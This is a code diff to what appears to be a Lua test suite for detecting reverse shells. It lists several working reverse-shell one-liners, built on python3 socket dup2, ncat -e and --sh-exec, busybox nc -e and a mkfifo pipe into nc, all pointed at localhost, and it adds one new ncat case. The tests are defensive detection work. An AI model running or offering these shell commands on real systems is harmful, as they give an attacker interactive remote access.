@@ -46,7 +46,7 @@ describe("a shell that calls out", function()
   out("python3 dup2 and call", [[python3 -c 'import os,socket,subprocess
 s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
 for n in 0, 1, 2: os.dup2(s.fileno(), n)
-subprocess.call(["/bin/sh", "-i"])'; true]], { ["process.parent.name"] = "python3.11" }, "python3")
+subprocess.call(["/bin/sh", "-i"])'; true]], { ["process.parent.executable"] = e2e.real("python3") }, "python3")
   out("python3 dup2 and execve", [[python3 -c 'import os,socket
 s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
 for n in 0, 1, 2: os.dup2(s.fileno(), n)
@@ -66,6 +66,8 @@ open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")
     "nc.traditional")
   out("ncat -e", "ncat -e /bin/bash 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
   out("ncat --sh-exec", "ncat --sh-exec \"exec /bin/bash -i\" 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
+  out("a shell below a shell that was given a command", "ncat --sh-exec 'sh; true' 127.0.0.1 $PORT; true",
+    { ["process.name"] = "dash" }, "ncat")
   out("busybox nc -e", "busybox nc 127.0.0.1 $PORT -e /bin/sh; true", { ["process.name"] = "dash" }, "busybox nc.traditional")
   out("mkfifo and nc", "cd $DIR; mkfifo f; cat f | sh -i 2>&1 | nc.openbsd -N 127.0.0.1 $PORT >f; true",
     {}, "nc.openbsd")
